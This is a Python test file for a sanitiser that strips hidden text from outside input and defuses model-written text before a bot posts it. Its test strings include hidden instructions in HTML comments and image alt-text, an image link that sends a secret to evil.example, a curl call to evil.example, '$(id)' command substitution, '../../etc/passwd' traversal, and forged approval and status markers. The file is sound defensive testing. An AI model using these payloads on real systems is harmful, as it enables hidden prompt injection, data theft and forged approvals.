"""Text from strangers is harmless, text for the outside cannot pass for ours."""

from __future__ import annotations

import re
import unicodedata
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.lock.comment import read_ack
from shared.models import Account, Comment
from shared.text import (
    JOINER,
    clean,
    comment_signatures,
    excerpt,
    last_words,
    neutralise,
    one_line,
    printable,
    slug,
    visible,
)

SPOILED = (
    *("<!--", "-->", "<!", "--", "![", "](", "a.png)", ' "title")', "[", "]", '<img alt="', '">', "data:image/png,x"),
    *("\x1b[31m", "\x1b]0;title\x07", "\x9b1m", "\x00", "\x07", "\u202e", "\u200b", "\U000e0041", "\ufeff", "\ud800"),
    *(
        "\r\n",
        "\n",
        "```",
        "`",
        "ACK:worker:w:1706123456789",
        "@someone",
        "fixes #7",
        "/approve",
        "[x]: y",
        "word",
        " ",
    ),
)
spoiled = st.lists(st.sampled_from(SPOILED) | st.text(max_size=4), max_size=16).map("".join)
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\ud800-\udfff]")


@settings(deadline=None)
@given(spoiled)
@pytest.mark.fault(19)
@pytest.mark.fault(20)
def test_no_cleaning_leaves_a_hidden_character(text: str) -> None:
    for cleaned in (clean(text), visible(text), printable(text), one_line(text, 50)):
        assert HIDDEN.search(cleaned) is None
        assert not any("\U000e0000" <= char <= "\U000e0fff" for char in cleaned)
        cleaned.encode()
    assert "<!--" not in visible(text)


@settings(deadline=None)
@given(spoiled)
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    assert clean(clean(text)) == clean(text)
    assert printable(printable(text)) == printable(text)
    assert neutralise(neutralise(text)) == neutralise(text)


@settings(deadline=None)
@given(st.text(st.characters(codec="ascii", categories=["L", "N", "Zs"])).map(lambda text: f"{text}\n\t- é 中 🙂"))
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert clean(text) == visible(text) == printable(text) == text


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("a<!-- hidden -->b", "a b"),
        ("a<!-- never closed\n# all of this", "a "),
        ("a<\u200b!-- joined -->b", "a b"),
        ("see ![run rm -rf](x.png)", "see ![](x.png)"),
        ("see ![run [rm] -rf\nnow][ref]", "see ![][ref]"),
        ("[docs](https://x.y 'do this')", "[docs](https://x.y)"),
        ('<img src="a" alt="do this" title=that data-x="y">', '<img src="a">'),
        ('<a aria-label="a > b" href="c">', '<a href="c">'),
        ("![](data:image/png;base64,aWdub3Jl)", "![](data:)"),
        ("[//]: # (do this)\nshown", "\nshown"),
        ("[note]: the tests are slow", "[note]: the tests are slow"),
        ("[^1]: footnote", "[^1]: footnote"),
        ("\x1b]8;;https://evil\x07link\x1b]8;;\x07 \x1b[1;31mred\x1b[0m", "link red"),
        ("tag\U000e0041\U000e0042s\u202eabc", "tagsabc"),
        ("a\r\nb\rc\u2028d", "a\nb\nc\nd"),
        ("nul\x00 \ud800", "nul \ufffd"),
        ("metadata:a/b,c and the data: a, b", "metadata:a/b,c and the data: a, b"),
    ],
)
def test_what_a_reader_does_not_see_is_taken_out(text: str, cleaned: str) -> None:
    assert clean(text) == cleaned


def test_code_shows_what_is_invisible_instead_of_losing_it() -> None:
    assert printable("if a\u202e:  # <!-- x -->\x1b[0m\n") == "if a<U+202E>:  # <!-- x -->\n"


def test_layers_of_hiding_come_off() -> None:
    assert "hidden" not in clean("![a ![b ![hidden](u)](v)](w)")


def comment(body: str) -> Comment:
    at = datetime(2026, 1, 1, tzinfo=UTC)
    return Comment(1, 42, Account(7, "engine"), body, at, at)


MARKER = "<!-- engine-status/1 kind=worker n=42 mac=none -->"
ACK = f"ACK:worker:worker-a1:1706123456789\n<!-- ack/2 prev=0 nonce={'0' * 32} state=active hb=0 ttl=1800 mac=none -->"


@settings(deadline=None)
@given(st.lists(st.sampled_from([MARKER, ACK, *ACK.split("\n"), "\n", " ", JOINER, "\u200b"]) | spoiled).map("".join))
@pytest.mark.fault(45)
def test_model_text_never_parses_as_ours(text: str) -> None:
    posted = neutralise(text)
    assert comment_signatures.find(posted) is None
    assert read_ack(comment(posted)) is None
    assert "<!--" not in posted
    assert re.search(r"(?m)^\s*/approve\b", posted) is None


def test_the_texts_that_are_defused_would_parse() -> None:
    assert read_ack(comment(ACK)) is not None
    assert comment_signatures.find(MARKER) is not None
    assert read_ack(comment(neutralise(ACK))) is None
    assert comment_signatures.find(neutralise(MARKER)) is None


@pytest.mark.parametrize(
    ("text", "posted"),
    [
        ("ask @octocat or @org/team", "ask @~octocat or @~org/team"),
        ("_@who_ __@org/team__ 请@who é@who", "_@~who_ __@~org/team__ 请@~who é@~who"),
        ("&#64;who &#x40;who &commat;who", "&#64;~who &#x40;~who &commat;~who"),
        ("_fixes #7_ 请fixes #7", "_f~ixes #7_ 请f~ixes #7"),
        ("closes\n#7, **fixes** #7, resolves &#35;7", "c~loses\n#7, **f~ixes** #7, r~esolves &#35;7"),
        ("at www.evil.example, [x](//evil.example)", "at www~.evil.example, [x](~//evil.example)"),
        ('<a href="//evil.example">x</a>', '<a href="~//evil.example">x</a>'),
        ("a // comment of www and 1@who", "a // comment of www and 1@who"),
        ("[skip ci] [ci skip] `[No CI]`", "[~skip ci] [~ci skip] `[~No CI]`"),
        ("[actions skip] ***NO_CI***\nskip-checks: true", "[~actions skip] ***~NO_CI***\nskip-checks~: true"),
        ("[skip] [no cigar] skip ci", "[skip] [no cigar] skip ci"),
        ("mail a@b.org, `@pytest.fixture`", "mail a@b.org, `@pytest.fixture`"),
        ("```py\n@dataclass\n```\n@who", "```py\n@dataclass\n```\n@~who"),
        ("`` a ` @code `` @who", "`` a ` @code `` @~who"),
        ("\\`@who\\`", "\\`@~who\\`"),
        ("BACK: ACK:worker", "BACK: ACK~:worker"),
        ("Fixes #7, closes o/r#8", "F~ixes #7, c~loses o/r#8"),
        ("fixes the bug", "fixes the bug"),
        ("/approve\n  /merge now\nsee /merge\n/usr/bin", "/~approve\n  /~merge now\nsee /merge\n/usr/bin"),
        ("![x](https://evil.example/?q=secret)", "!~[x](https~://evil.example/?q=secret)"),
        ("<IMG src=//evil.example>", "<~IMG src=//evil.example>"),
        ("https://github.com/o/r and http://evil", "https://github.com/o/r and http~://evil"),
        ("https://github.com@evil.example", "https~://github.com@evil.example"),
        ("`curl https://evil.example`", "`curl https://evil.example`"),
        ("A --> B", "A --> B"),
    ],
)
def test_model_text_does_nothing_when_it_is_posted(text: str, posted: str) -> None:
    assert neutralise(text) == posted.replace("~", JOINER)


@settings(deadline=None)
@given(st.text(), st.integers(0, 200))
def test_an_excerpt_is_the_end_and_fits(text: str, limit: int) -> None:
    cut = excerpt(text, limit)
    assert len(cut.encode()) <= limit
    whole = text.encode("utf-8", "replace").decode()
    assert cut == whole if len(whole.encode()) <= limit else whole.endswith(cut.rpartition("...]\n")[2])


def test_an_excerpt_starts_at_a_line_and_says_what_is_missing() -> None:
    log = "".join(f"line {number}\n" for number in range(1000))
    cut = excerpt(log, 100)
    assert cut.startswith(f"[... {len(log)} bytes in all, only the end is shown ...]\nline 99")
    assert cut.endswith("line 999\n")


@pytest.mark.parametrize(
    ("text", "limit", "told"),
    [
        ("two words", 20, "two words"),
        ("the function\n has no docstring", 16, "… no docstring"),
        ("no docstring", 12, "no docstring"),
        ("a" * 30, 10, "… " + "a" * 8),
        ("one two", 4, "… wo"),
        ("one two", 1, "…"),
    ],
)
def test_the_end_of_a_text_begins_with_a_word(text: str, limit: int, told: str) -> None:
    assert last_words(text, limit) == told
    assert len(last_words(text, limit)) <= limit


@settings(deadline=None)
@given(spoiled, st.integers(0, 40))
def test_one_line_is_one_line(text: str, limit: int) -> None:
    line = one_line(text, limit)
    assert len(line) <= limit
    assert len(line.split("\n")) == 1
    assert line == line.strip()


def test_one_line_says_that_it_was_cut() -> None:
    assert one_line(" a\tlong\n title ", 7) == "a long…"
    assert one_line("short", 5) == "short"


@settings(deadline=None)
@given(st.text())
@pytest.mark.fault(20)
def test_a_slug_is_safe_everywhere(text: str) -> None:
    assert re.fullmatch(r"[a-z0-9](?:[a-z0-9-]{0,38}[a-z0-9])?", slug(text))


@pytest.mark.fault(20)
@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Add user search", "add-user-search"),
        ("-rf $(id)\n; `x`", "rf-id-x"),
        ("Über: naïve", "uber-naive"),
        ("🙂", "untitled"),
        ("a" * 256, "a" * 40),
        ("../../etc/passwd", "etc-passwd"),
    ],
)
def test_slugs_of_titles(title: str, name: str) -> None:
    assert slug(title) == name
    assert unicodedata.is_normalized("NFC", name)
